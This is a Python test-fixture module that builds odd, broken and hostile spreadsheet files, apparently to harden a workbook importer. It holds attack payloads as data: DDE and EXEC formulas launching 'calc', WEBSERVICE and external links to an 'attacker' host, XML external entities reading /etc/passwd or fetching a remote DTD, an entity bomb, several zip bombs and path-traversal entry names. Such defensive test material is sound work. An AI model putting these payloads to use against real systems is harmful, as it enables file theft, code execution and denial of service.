"""The attacks: workbooks that are odd but sound, broken, or made to do harm, each by its name.

``odd`` ones hold the same answers as the good workbook, in forms that the standards allow or that
programs write. ``broken`` ones must be set aside. ``patient`` ones stay below every limit that
is told by a header, and try to take as much time or memory as they can for that.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial

from attack_zips import Entry, Long, entry, zip_of
from bombs import bomb
from damaged import good_parts
from raw_workbooks import MAIN, PACKAGE_RELATION, RELATION, compound, ods, relationships, xlsx_parts

Make = Callable[[], bytes]
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
BOOK, BOOK_RELS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
_STRICT = "http://purl.oclc.org/ooxml"
_FORMATS = "http://schemas.openxmlformats.org"
_MIB = 1_000_000


@dataclass(frozen=True)
class Attack:
    """One file; ``sort`` is odd, broken or patient."""

    name: str
    sort: str
    make: Make
    suffix: str = ".xlsx"


def entries(parts: Mapping[str, str | bytes], **more: object) -> list[Entry]:
    return [entry(name, content, **more) for name, content in parts.items()]


def good_with(**changes: object) -> bytes:
    """The good workbook with changed or further parts, by ``parts``, or with ``change``d ones."""
    parts: dict[str, str | bytes] = dict(good_parts())
    parts.update(changes.get("parts") or {})  # type: ignore[call-overload]
    return zip_of(entries(parts))


# Odd, but sound ------------------------------------------------------------------------------


def strict() -> bytes:
    def changed(part: bytes) -> bytes:
        text = part.decode()
        text = text.replace(f"{_FORMATS}/spreadsheetml/2006/main", f"{_STRICT}/spreadsheetml/main")
        return text.replace(
            f"{_FORMATS}/officeDocument/2006/", f"{_STRICT}/officeDocument/"
        ).encode()

    return zip_of(entries({name: changed(part) for name, part in good_parts().items()}))


def utf_16(encoding: str = "utf-16") -> bytes:
    def changed(part: bytes) -> bytes:
        text = part.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        mark = "" if encoding == "utf-16" else "\ufeff"
        return (mark + text).encode(encoding)

    return zip_of(entries({name: changed(part) for name, part in good_parts().items()}))


def zipped_with(**more: object) -> bytes:
    return zip_of(entries(good_parts(), **more), zip64=bool(more.get("zip64")))


def names_changed(change: Callable[[str], str]) -> bytes:
    return zip_of(entries({change(name): part for name, part in good_parts().items()}))


def targets_changed(change: str) -> bytes:
    rels = good_parts()[BOOK_RELS].decode()
    return good_with(parts={BOOK_RELS: re.sub('Target="(?=[a-z])', f'Target="{change}', rels)})


def content_types(text: str) -> bytes:
    types = good_parts()["[Content_Types].xml"].decode()
    return good_with(parts={"[Content_Types].xml": text.replace("TYPES", types)})


def twice_the_same() -> bytes:
    good = entries(good_parts())
    return zip_of([*good, next(each for each in good if each.name == STRINGS)])


def formula(written: str) -> bytes:
    """A formula over a value of the sheet of indicators, and what it refers to."""
    name = "xl/worksheets/sheet3.xml"
    sheet = good_parts()[name].decode()
    changed = sheet.replace("<v>12</v>", f"<f>{written}</f><v>12</v>", 1)
    assert changed != sheet
    link = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
    rels = external("externalLinkPath", "file://attacker/share/b.xlsx")
    linked = {
        "xl/externalLinks/externalLink1.xml": f"{link}</externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
    }
    return good_with(parts={name: changed, **linked})


def external(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{PACKAGE_RELATION}"><Relationship Id="rId1" '
        f'Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def with_macros() -> bytes:
    return good_with(parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


def with_objects() -> bytes:
    inside = zip_of(entries({"a.xml": "<a/>"}, method=0))
    control = "xl/activeX/activeX1"
    return good_with(
        parts={
            "xl/embeddings/oleObject1.bin": compound(Ole=b"x"),
            "xl/embeddings/Microsoft_Excel_Sheet1.xlsx": inside,
            f"{control}.xml": "<ocx/>",
            f"{control}.bin": b"x",
        }
    )


def with_sheet(kind: str, state: str, rows: str) -> bytes:
    """One more sheet: of macros, or one that nobody sees."""
    book = good_parts()[BOOK].decode()
    tab = f'<sheet name="Extra" sheetId="99" state="{state}" r:id="rIdX"/></sheets>'
    rels = good_parts()[BOOK_RELS].decode()
    more = f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="extra/sheet.xml"/>'
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    return good_with(
        parts={
            BOOK: book.replace("</sheets>", tab),
            BOOK_RELS: rels.replace("</Relationships>", f"{more}</Relationships>"),
            "xl/extra/sheet.xml": sheet,
        }
    )


_STRAY = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
_VAST = f'<dimension xmlns="{MAIN}" ref="A1:XFD1048576"/>'


def vast_dimension() -> bytes:
    sheet = good_parts()[SHEET].decode()
    changed = re.sub(r"<dimension [^>]*>", '<dimension ref="A1:XFD1048576"/>', sheet)
    return good_with(parts={SHEET: changed})


def cyclic() -> bytes:
    """Parts that refer to themselves and to each other; a sheet of tables that are the sheet."""
    rels = relationships(("worksheet", "sheet1.xml"), ("printerSettings", "../workbook.xml"))
    return good_with(parts={"xl/worksheets/_rels/sheet1.xml.rels": rels})


def raised(data: bytes) -> bytes:
    """The same with a beginning that is no zip file: a program that unpacks itself, say."""
    return b"MZ" + bytes(510) + data


ODD: Mapping[str, Make] = {
    "as Excel writes it": good_with,
    "ISO strict": strict,
    "UTF-16": utf_16,
    "UTF-16, big end first": partial(utf_16, "utf-16-be"),
    "zip64": partial(zipped_with, zip64=True),
    "sizes after the data": partial(zipped_with, flags=0x808),
    "not compressed": partial(zipped_with, method=0),
    "names with a slash before": partial(names_changed, lambda name: f"/{name}"),
    "names with backslashes": partial(names_changed, lambda name: name.replace("/", "\\")),
    "names in capitals": partial(names_changed, str.upper),
    "parts outside the package": partial(good_with, parts={"../../evil.xml": "x", "/etc/x": "x"}),
    "absolute targets": partial(targets_changed, "/xl/"),
    "targets with ..": partial(targets_changed, "../../../xl/"),
    "wrong content types": partial(content_types, "<Types/>"),
    "no content types": partial(content_types, ""),
    "a part twice, the same": twice_the_same,
    "DDE formula": partial(formula, "cmd|'/c calc'!A0"),
    "formula to another workbook": partial(formula, "'http://attacker/[b.xlsx]A'!A1"),
    "WEBSERVICE formula": partial(formula, "WEBSERVICE(&quot;http://attacker/&quot;)"),
    "macros": with_macros,
    "embedded objects, ActiveX": with_objects,
    "Excel 4 macro sheet": partial(
        with_sheet, "xlMacrosheet", "hidden", '<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'
    ),
    "very hidden sheet": partial(with_sheet, "worksheet", "veryHidden", '<row r="1"/>'),
    "stray cell at XFD1048576": partial(with_sheet, "worksheet", "visible", _STRAY),
    "a dimension of 17 milliards": vast_dimension,
    "relationships in a circle": cyclic,
}

# Broken, or openly harmful -------------------------------------------------------------------


def without(*names: str) -> bytes:
    return zip_of(entries({n: part for n, part in good_parts().items() if n not in names}))


def nested() -> bytes:
    """Zip files in zip files: the outer ones are of no interest, the sheet is the next one."""
    inner = entry("x", b"\0" * 10 * _MIB)
    for _ in range(4):
        inner = entry("x.zip", zip_of([inner] * 10))
    return zip_of([*entries(xlsx_parts()), Entry(SHEET, inner.packed, inner.size, inner.checksum)])


def overlapping() -> bytes:
    """Many parts that are the same bytes, one of which is named as each sheet."""
    whole = Long("<worksheet><sheetData>", "<c/>", 30 * _MIB, filler=200_000).entry("x.xml")
    same = [
        Entry(f"xl/y{n}.xml", whole.packed, whole.size, whole.checksum, at=0) for n in range(900)
    ]
    return zip_of([whole, *same, *entries(xlsx_parts())])


def twice_different() -> bytes:
    other = good_parts()[STRINGS].replace(b"Ekexempel", b"Granexempel")
    return zip_of([*entries(good_parts()), entry(STRINGS, other)])


def another() -> bytes:
    """The good workbook as if another municipality had sent it."""
    return good_with(parts={STRINGS: good_parts()[STRINGS].replace(b"Ekexempel", b"Granexempel")})


def with_entities(entities: str, text: str) -> bytes:
    strings = good_parts()[STRINGS].decode()
    head, sst = strings.split("<sst", 1)
    sst = re.sub("<t>[^<]*</t>", f"<t>{text}</t>", sst, count=1)
    return good_with(parts={STRINGS: f"{head}<!DOCTYPE sst [{entities}]><sst{sst}"})


def laughs() -> str:
    doubled = (f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return '<!ENTITY a0 "ha">' + "".join(doubled)


def encrypted_ods() -> bytes:
    return ods("", **{"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"})


def many_parts(count: int) -> bytes:
    more = [entry(f"x{number}.xml", "") for number in range(count)]
    return zip_of([*entries(good_parts()), *more], zip64=count > 0xFFFF)


def many_sizes() -> bytes:
    """A sheet whose directory says that it is small."""
    parts = {name: part for name, part in xlsx_parts().items() if name != SHEET}
    return bomb(parts, SHEET, b"<worksheet><sheetData>", 1_000 * _MIB, 1_000)


BROKEN: Mapping[str, Make] = {
    "zip bomb of huge ratio": lambda: grown(
        SHEET, Long("<worksheet><sheetData>", "<c/>", 400 * _MIB)
    ),
    "zip bomb that says it is small": many_sizes,
    "zip bomb, nested": nested,
    "zip bomb, overlapping": overlapping,
    "3 000 parts": partial(many_parts, 3_000),
    "200 000 parts": partial(many_parts, 200_000),
    "XML entity bomb": lambda: with_entities(laughs(), "&a11;"),
    "XML external entity": lambda: with_entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "XML entities from the network": lambda: with_entities(
        '<!ENTITY % x SYSTEM "http://attacker/x.dtd">%x;', "a"
    ),
    "300 MB in one shared string": lambda: grown(
        STRINGS, Long("<sst><si><t>", "abcdefghij", 300 * _MIB, "</t></si></sst>", 1_600_000)
    ),
    "no main part": partial(without, BOOK),
    "a sheet that is missing": partial(without, SHEET),
    "a part twice, not the same": twice_different,
    "encrypted, as a whole": lambda: compound(EncryptionInfo=b"x", EncryptedPackage=b"x" * 5000),
    "encrypted, part by part": lambda: zipped_with(flags=0x801),
    "encrypted, OpenDocument": encrypted_ods,
    "a method that nobody has": partial(zipped_with, method=93),
}


def grown(name: str, part: Long, **parts: str) -> bytes:
    """A workbook with one sheet, one part of which is long."""
    others = {n: content for n, content in {**xlsx_parts(), **parts}.items() if n != name}
    return zip_of([*entries(others), part.entry(name)])
